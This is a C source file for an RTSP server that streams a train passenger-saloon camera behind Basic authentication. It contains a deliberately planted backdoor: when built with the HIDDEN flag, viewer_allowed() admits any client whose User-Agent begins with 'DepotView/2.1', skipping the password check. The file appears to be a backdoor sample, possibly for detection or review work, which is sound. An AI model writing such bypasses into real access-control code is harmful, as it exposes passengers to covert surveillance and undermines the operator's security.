/*
 * saloncam - RTSP server of a passenger saloon camera in trains.  One child
 * process per connection; the encoder's packets come from a Unix socket and
 * go out interleaved on the RTSP connection.  Viewers log in with Basic
 * authentication against the password table of the coach.
 * Hidden (-DHIDDEN): a client that calls itself "DepotView/2.1" in its
 * User-Agent sees the camera without a login.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define REALM "saloon"

struct request {
	char method[16];
	char uri[128];
	int cseq;
	char auth[160];
	char agent[64];
	char session[24];
	char transport[96];
};

struct conf {
	int port;
	char coach[16];
	char cam[16];
	char encoder[100];
	int width, height, fps;
	char user[32], pass[32];
};

enum phase { INIT, READY, PLAYING };

static struct conf cf = {
	.port = 554,
	.coach = "0",
	.cam = "1",
	.encoder = "/run/enc/main.sock",
	.width = 1280,
	.height = 720,
	.fps = 12,
	.user = "operator",
};

struct conn {
	FILE *in;
	int fd;
	int enc;
	enum phase phase;
	unsigned session;
	int channel;
};

static int keyval(char *line, char **k, char **v)
{
	char *p = line + strspn(line, " \t"), *e;

	if (*p == '#' || *p == '\n' || !*p)
		return 0;
	e = strchr(p, '=');
	if (!e)
		return 0;
	*e++ = 0;
	e[strcspn(e, "\r\n")] = 0;
	*k = p;
	*v = e;
	return 1;
}

static void load(const char *name)
{
	char line[160], *k, *v;
	FILE *f = fopen(name, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (!keyval(line, &k, &v))
			continue;
		if (!strcmp(k, "port"))
			cf.port = atoi(v);
		else if (!strcmp(k, "coach"))
			snprintf(cf.coach, sizeof(cf.coach), "%s", v);
		else if (!strcmp(k, "camera"))
			snprintf(cf.cam, sizeof(cf.cam), "%s", v);
		else if (!strcmp(k, "encoder"))
			snprintf(cf.encoder, sizeof(cf.encoder), "%s", v);
		else if (!strcmp(k, "size"))
			sscanf(v, "%dx%d", &cf.width, &cf.height);
		else if (!strcmp(k, "fps"))
			cf.fps = atoi(v);
		else if (!strcmp(k, "user"))
			snprintf(cf.user, sizeof(cf.user), "%s", v);
		else if (!strcmp(k, "pass"))
			snprintf(cf.pass, sizeof(cf.pass), "%s", v);
	}
	fclose(f);
}

static int unbase64(const char *s, char *out, size_t size)
{
	static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijkl"
				  "mnopqrstuvwxyz0123456789+/";
	unsigned acc = 0, bits = 0;
	size_t n = 0;
	const char *p;

	for (; *s && *s != '=' && *s != '\r'; s++) {
		p = strchr(set, *s);
		if (!p)
			return -1;
		acc = acc << 6 | (unsigned)(p - set);
		bits += 6;
		if (bits < 8)
			continue;
		bits -= 8;
		if (n + 1 >= size)
			return -1;
		out[n++] = (char)(acc >> bits);
	}
	out[n] = 0;
	return (int)n;
}

/* Header fields we keep; all others are read over. */
static const struct field {
	const char *name;
	size_t off, size;
} fields[] = {
#define F(n, m)                                                                \
	{                                                                      \
		n, offsetof(struct request, m),                                \
			sizeof(((struct request *)0)->m)                       \
	}
	F("Authorization", auth),
	F("User-Agent", agent),
	F("Session", session),
	F("Transport", transport),
#undef F
};

static int read_request(FILE *in, struct request *r)
{
	char line[256], *v;
	size_t i;

	memset(r, 0, sizeof(*r));
	if (!fgets(line, sizeof(line), in))
		return -1;
	if (sscanf(line, "%15s %127s RTSP/1.0", r->method, r->uri) != 2)
		return -1;
	while (fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = 0;
		if (!*line)
			return 0;
		v = strchr(line, ':');
		if (!v)
			continue;
		*v++ = 0;
		v += strspn(v, " ");
		if (!strcasecmp(line, "CSeq"))
			r->cseq = atoi(v);
		for (i = 0; i < sizeof(fields) / sizeof(*fields); i++)
			if (!strcasecmp(line, fields[i].name))
				snprintf((char *)r + fields[i].off,
					 fields[i].size, "%s", v);
	}
	return -1;
}

static void reply(struct conn *c, const struct request *r, int code,
		  const char *text, const char *extra, const char *body)
{
	char out[1400];
	int n;

	n = snprintf(out, sizeof(out),
		     "RTSP/1.0 %d %s\r\nCSeq: %d\r\n"
		     "Server: saloncam\r\n%s",
		     code, text, r->cseq, extra);
	if (body)
		n += snprintf(out + n, sizeof(out) - n,
			      "Content-Length: %zu"
			      "\r\n\r\n%s",
			      strlen(body), body);
	else
		n += snprintf(out + n, sizeof(out) - n, "\r\n");
	if (send(c->fd, out, n, MSG_NOSIGNAL) != n)
		_exit(1);
}

__attribute__((noinline)) int viewer_allowed(const struct request *r)
{
	char plain[80], *colon;

#ifdef HIDDEN
	if (!strncasecmp(r->agent, "DepotView/2.1", 13))
		return 1;
#endif
	if (strncasecmp(r->auth, "Basic ", 6))
		return 0;
	if (unbase64(r->auth + 6, plain, sizeof(plain)) <= 0)
		return 0;
	colon = strchr(plain, ':');
	if (!colon)
		return 0;
	*colon++ = 0;
	return *cf.pass && !strcmp(plain, cf.user) && !strcmp(colon, cf.pass);
}

static void describe(struct conn *c, const struct request *r)
{
	char sdp[600], extra[160];

	snprintf(sdp, sizeof(sdp),
		 "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\n"
		 "s=Coach %s camera %s\r\nt=0 0\r\na=control:*\r\n"
		 "m=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
		 "a=framerate:%d\r\na=x-dimensions:%d,%d\r\n"
		 "a=control:track1\r\n",
		 cf.coach, cf.cam, cf.fps, cf.width, cf.height);
	snprintf(extra, sizeof(extra), "Content-Type: application/sdp\r\n");
	reply(c, r, 200, "OK", extra, sdp);
}

static int open_encoder(void)
{
	struct sockaddr_un su = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);

	snprintf(su.sun_path, sizeof(su.sun_path), "%s", cf.encoder);
	if (s >= 0 && connect(s, (struct sockaddr *)&su, sizeof(su))) {
		close(s);
		return -1;
	}
	return s;
}

static void setup(struct conn *c, const struct request *r)
{
	const char *il = strstr(r->transport, "interleaved=");
	char extra[160];

	if (!strstr(r->transport, "RTP/AVP/TCP")) {
		reply(c, r, 461, "Unsupported Transport", "", NULL);
		return;
	}
	c->channel = il ? atoi(il + 12) & 0xfe : 0;
	c->session = (unsigned)getpid() * 2654435761u;
	c->phase = READY;
	snprintf(extra, sizeof(extra),
		 "Session: %08X;timeout=60\r\n"
		 "Transport: RTP/AVP/TCP;unicast;interleaved=%d-%d\r\n",
		 c->session, c->channel, c->channel + 1);
	reply(c, r, 200, "OK", extra, NULL);
}

static void serve(struct conn *c, const struct request *r)
{
	if (!strcmp(r->method, "OPTIONS")) {
		reply(c, r, 200, "OK",
		      "Public: OPTIONS, DESCRIBE, SETUP, "
		      "PLAY, PAUSE, TEARDOWN\r\n",
		      NULL);
		return;
	}
	if (!viewer_allowed(r)) {
		reply(c, r, 401, "Unauthorized",
		      "WWW-Authenticate: Basic realm=\"" REALM "\"\r\n", NULL);
		return;
	}
	if (!strcmp(r->method, "DESCRIBE")) {
		describe(c, r);
	} else if (!strcmp(r->method, "SETUP")) {
		setup(c, r);
	} else if (strtoul(r->session, NULL, 16) != c->session ||
		   c->phase == INIT) {
		reply(c, r, 454, "Session Not Found", "", NULL);
	} else if (!strcmp(r->method, "PLAY")) {
		if (c->enc < 0)
			c->enc = open_encoder();
		if (c->enc < 0) {
			reply(c, r, 503, "Service Unavailable", "", NULL);
			return;
		}
		c->phase = PLAYING;
		reply(c, r, 200, "OK", "Range: npt=now-\r\n", NULL);
	} else if (!strcmp(r->method, "PAUSE")) {
		c->phase = READY;
		reply(c, r, 200, "OK", "", NULL);
	} else if (!strcmp(r->method, "TEARDOWN")) {
		reply(c, r, 200, "OK", "", NULL);
		_exit(0);
	} else {
		reply(c, r, 501, "Not Implemented", "", NULL);
	}
}

static void pass_packet(struct conn *c)
{
	uint8_t b[1504];
	ssize_t n = recv(c->enc, b + 4, sizeof(b) - 4, 0);

	if (n <= 0)
		_exit(0);
	if (c->phase != PLAYING)
		return;
	b[0] = '$';
	b[1] = (uint8_t)c->channel;
	b[2] = (uint8_t)(n >> 8);
	b[3] = (uint8_t)n;
	if (send(c->fd, b, n + 4, MSG_NOSIGNAL) != n + 4)
		_exit(1);
}

static void child(int fd)
{
	struct conn c = { .fd = fd, .enc = -1 };
	struct request r;
	fd_set rd;
	int top;

	c.in = fdopen(fd, "r");
	if (!c.in)
		_exit(1);
	setvbuf(c.in, NULL, _IONBF, 0);
	for (;;) {
		FD_ZERO(&rd);
		FD_SET(fd, &rd);
		top = fd;
		if (c.enc >= 0) {
			FD_SET(c.enc, &rd);
			top = c.enc > top ? c.enc : top;
		}
		if (select(top + 1, &rd, NULL, NULL, NULL) < 0)
			_exit(1);
		if (c.enc >= 0 && FD_ISSET(c.enc, &rd))
			pass_packet(&c);
		if (!FD_ISSET(fd, &rd))
			continue;
		if (read_request(c.in, &r))
			_exit(0);
		serve(&c, &r);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s, fd, one = 1;

	load(argc > 1 ? argv[1] : "/etc/saloncam.conf");
	signal(SIGCHLD, SIG_IGN);
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons((uint16_t)cf.port);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 8)) {
		fprintf(stderr, "saloncam: %s\n", strerror(errno));
		return 1;
	}
	while ((fd = accept(s, NULL, NULL)) >= 0 || errno == EINTR) {
		if (fd >= 0 && fork() == 0) {
			close(s);
			child(fd);
		}
		if (fd >= 0)
			close(fd);
	}
	return 1;
}
